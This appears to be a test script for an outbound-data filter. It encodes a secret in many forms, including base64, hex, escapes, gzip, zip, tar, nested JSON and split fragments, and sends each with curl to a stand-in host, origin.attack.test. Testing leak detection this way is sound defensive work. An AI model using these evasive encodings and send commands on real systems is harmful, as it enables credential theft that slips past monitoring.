# A secret to an allowed host in a body: form, JSON, multipart, stream, encoded, compressed, split.
need curl python3
where="https://origin.attack.test:$PORT/upload"
cat >forms.py <<'PY'
import base64, gzip, io, json, os, quopri, sys, tarfile, zipfile, zlib
text, folder, whole = sys.stdin.buffer.read(), sys.argv[1], sys.argv[2] == "whole"
def write(name, data):
    with open(os.path.join(folder, name), "wb") as f: f.write(data)
b64 = base64.b64encode
write("plain", b"notes: " + text + b"\n")
write("late", b"a line of harmless prose\n" * 8000 + text + b"\n")
write("base64", b64(text))
write("base64 shifted", b64(b"k: " + text))
write("base64 url", base64.urlsafe_b64encode(b"ke: " + text))
write("base64 in lines", base64.encodebytes(b"some words before it: " + text))
write("base32", base64.b32encode(text))
write("hex", text.hex().encode())
write("HEX", text.hex().upper().encode())
write("percent", "".join("%%%02x" % b for b in text).encode())
write("base64 twice", b64(b64(text)))
write("hex of base64", b64(text).hex().encode())
write("json", json.dumps({"note": text.decode()}).encode())
write("json key", json.dumps({text.decode(): 1}).encode())
write("json escapes", ('{"note":"' + "".join("\\u%04x" % b for b in text) + '"}').encode())
write("html escapes", "".join("&#%d;" % b for b in text).encode())
write("utf-16", text.decode().encode("utf-16"))
write("utf-16be", text.decode().encode("utf-16-be"))
write("gzip", gzip.compress(text))
write("deflate", zlib.compress(text))
write("gzip of base64", gzip.compress(b64(text)))
write("base64 of gzip", b64(gzip.compress(text)))
lines = base64.encodebytes(b"some words before it: " + text).decode()
write("base64 lines in json", json.dumps({"content": lines}).encode())
write("base64 lines in json in json", json.dumps({"arguments": json.dumps({"content": lines})}).encode())
write("base64 lines in yaml", ("content: |\n  " + lines.replace("\n", "\n  ")).encode())
write("c array", ("{" + ", ".join("0x%02x" % b for b in text) + "}").encode())
write("hex pairs", text.hex(" ").encode())
write("numbers in lines", json.dumps(list(text), indent=2).encode())
write("loose html escapes", "".join("&#%d" % b for b in text).encode())
write("fast deflate", b"file: " + zlib.compress(text, 1))
small = zlib.compressobj(9, zlib.DEFLATED, 10)
write("small deflate", small.compress(text) + small.flush())
bare = zlib.compressobj(9, zlib.DEFLATED, -15)
write("raw deflate in a part", b"--b\r\nContent-Type: a/b\r\n\r\n" + bare.compress(text) + bare.flush() + b"\r\n--b--\r\n")
named = gzip.compress(text)
write("gzip with a long name", named[:3] + b"\x08" + named[4:10] + b"name " * 300 + b"\0" + named[10:])
write("base64 of text and gzip", b64(b"~" + gzip.compress(text)))
write("gzip in percent", "".join("%%%02X" % b for b in gzip.compress(text)).encode())
z = io.BytesIO()
with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as f: f.writestr("notes.txt", text)
write("zip", z.getvalue())
t = io.BytesIO()
with tarfile.open(fileobj=t, mode="w:gz") as f:
    info = tarfile.TarInfo("notes.txt"); info.size = len(text); f.addfile(info, io.BytesIO(text))
write("tar.gz", t.getvalue())
if whole:
    write("dashes", b"-".join(text[i:i+4] for i in range(0, len(text), 4)))
    write("spaces", b" ".join(text[i:i+1] for i in range(len(text))))
    write("halves json", json.dumps({"a": text[:20].decode(), "b": text[20:].decode()}).encode())
    write("parts json", json.dumps([text[i:i+10].decode() for i in range(0, len(text), 10)]).encode())
PY
for secret in harmless $secrets; do
	with=send && [ "$secret" = harmless ] && with=harmless
	whole=whole && case $secret in shape-*) whole=some ;; esac
	mkdir -p forms && rm -f forms/*
	text $secret | python3 forms.py forms $whole
	for form in forms/*; do
		$with "${form#forms/} $secret" --data-binary "@$form" "$where"
	done
	$with "form $secret" --data-urlencode "note=$(text $secret)" "$where"
	$with "form name $secret" --data-urlencode "$(text $secret)=1" "$where"
	$with "multipart $secret" -F "note=$(text $secret)" "$where"
	$with "multipart name $secret" -F "$(text $secret | tr = :)=1" "$where"
	$with "multipart file name $secret" -F "file=@forms/plain;filename=$(text $secret).txt" "$where"
	$with "chunked $secret" -H 'Transfer-Encoding: chunked' --data-binary @forms/plain "$where"
	$with "put $secret" -T forms/plain "$where/file"
	$with "coded $secret" -H 'Content-Encoding: gzip' --data-binary @forms/gzip "$where"
done
